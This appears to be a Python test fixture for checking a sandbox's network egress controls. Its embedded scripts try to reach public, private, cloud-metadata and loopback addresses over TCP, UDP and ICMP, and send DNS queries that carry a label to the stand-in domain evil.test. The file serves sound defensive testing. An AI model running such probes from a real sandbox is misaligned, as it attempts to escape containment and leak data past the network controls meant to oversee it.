"""Programs an agent might run. They use the standard library only, and say what they reached as JSON."""

from __future__ import annotations

from tests.attacks.egress.world import LOOP, METADATA, PRIVATE, PUBLIC, PUBLIC6, UDP_PORT

RAW_SOCKETS = f"""
import json, socket, struct, sys
LABEL = sys.argv[1]

def tcp(family, *address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(address)

def udp(family, *address, data=b"x"):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(data, address)
        s.recv(2048)

def icmp(family, kind, address):
    protocol = socket.IPPROTO_ICMP if family == socket.AF_INET else socket.IPPROTO_ICMPV6
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(10)
        echo = 8 if family == socket.AF_INET else 128
        data = struct.pack("!BBHHH", echo, 0, 0, 1, 1)
        if family == socket.AF_INET:
            data = data[:2] + struct.pack("!H", 0xFFFF - sum(struct.unpack("!HHHH", data)) & 0xFFFF) + data[4:]
        s.sendto(data, (address, 0))
        s.recv(2048)

def query(server):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in (LABEL + ".evil.test").split("."))
    udp(socket.AF_INET, server, 53, data=struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1]))

V4, V6 = socket.AF_INET, socket.AF_INET6
TRIES = {{
    "tcp v4": lambda: tcp(V4, "{PUBLIC}", 443),
    "tcp v4 to a sink": lambda: tcp(V4, "{PUBLIC}", 22),
    "tcp v6": lambda: tcp(V6, "{PUBLIC6}", 443),
    "tcp mapped": lambda: tcp(V6, "::ffff:{PUBLIC}", 443),
    "tcp by name": lambda: socket.create_connection(("allowed.lab.test", 443), 20).close(),
    "metadata": lambda: tcp(V4, "{METADATA}", 80),
    "private": lambda: tcp(V4, "{PRIVATE}", 80),
    "the host's loopback": lambda: tcp(V4, "{LOOP}", 80),
    "the host's loopback v6": lambda: tcp(V6, "::1", 80),
    "udp v4": lambda: udp(V4, "{PUBLIC}", {UDP_PORT}),
    "udp v6": lambda: udp(V6, "{PUBLIC6}", {UDP_PORT}),
    "icmp v4": lambda: icmp(V4, socket.SOCK_RAW, "{PUBLIC}"),
    "icmp v6": lambda: icmp(V6, socket.SOCK_RAW, "{PUBLIC6}"),
    "dns query": lambda: query("{LOOP}"),
    "dns by the system": lambda: socket.getaddrinfo(LABEL + "x.evil.test", 443),
}}
said = {{}}
for name, attempt in TRIES.items():
    try:
        attempt()
        said[name] = "reached"
    except (OSError, UnicodeError) as error:
        said[name] = type(error).__name__
print(json.dumps(said))
"""

FETCH = """
import json, os, ssl, sys, urllib.request
context = ssl.create_default_context(cadata=sys.stdin.read())
said = {}
for url in sys.argv[1:]:
    try:
        opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=context))
        said[url] = json.load(opener.open(url, timeout=60))["tag"]
    except OSError as error:
        said[url] = f"{type(error).__name__}: {error}"
print(json.dumps(said))
"""
